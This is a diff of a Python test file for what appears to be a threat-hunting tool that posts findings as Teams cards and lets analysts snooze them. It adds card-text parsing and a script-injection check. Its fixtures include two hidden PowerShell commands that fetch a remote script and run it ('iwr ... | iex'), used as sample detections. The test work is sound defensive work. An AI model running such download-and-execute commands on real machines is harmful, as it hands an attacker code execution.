@@ -206,11 +206,12 @@ def test_post_creates_one_snooze_audits_and_announces_it_once(
     assert "Dana Chen" in audit
     assert entity["RowKey"] in audit
     (announcement,) = snooze_env.payloads
-    (line,) = [b["text"] for b in announcement["attachments"][0]["content"]["body"]]
+    (line,) = [text for text in card_texts(announcement) if "snoozed" in text]
     assert "Dana Chen snoozed" in line
     assert "\n" not in line
     assert len(line) < 400
-    assert "\\*policy\\*" in line  # Teams Markdown shows it as typed
+    assert "*policy*" in line  # a TextRun: plain text, shown as typed, never Markdown
+    assert "<script>" not in json.dumps(announcement)
     # The same link again (a replay, or a second click) changes nothing.
     assert page(post(fields)).status_code == 409
     assert len(stored(storage_connection_string)) == 1
@@ -263,6 +264,7 @@ def test_a_snoozed_finding_does_not_reach_teams_on_the_next_run(
     vendor = "powershell -w hidden -c \"iwr https://vendor.example/policy.ps1 | iex\""
     other = "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\""
     events = tmp_path / "events.jsonl"
+    (tmp_path / "no-rules").mkdir()  # an explicitly set folder must exist
     env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string,
            "HUNTWIRE_TEAMS_WEBHOOK_URL": snooze_env.url, "HUNTWIRE_HUNTS_DIR": str(hunts),
            "HUNTWIRE_SUPPRESSIONS_DIR": str(tmp_path / "no-rules")}
@@ -294,3 +296,21 @@ def test_a_snoozed_finding_does_not_reach_teams_on_the_next_run(
     digest = json.dumps(snooze_env.payloads[2])  # the card defangs URLs: match the paths
     assert "/a.ps1" in digest
     assert "policy.ps1" not in digest
+
+
+def card_texts(payload: dict[str, Any]) -> list[str]:
+    """Every text of the card's TextRuns and TextBlocks."""
+    texts: list[str] = []
+
+    def walk(node: Any) -> None:
+        if isinstance(node, dict):
+            if node.get("type") in ("TextRun", "TextBlock") and isinstance(node.get("text"), str):
+                texts.append(node["text"])
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for value in node:
+                walk(value)
+
+    walk(payload["attachments"][0]["content"])
+    return texts
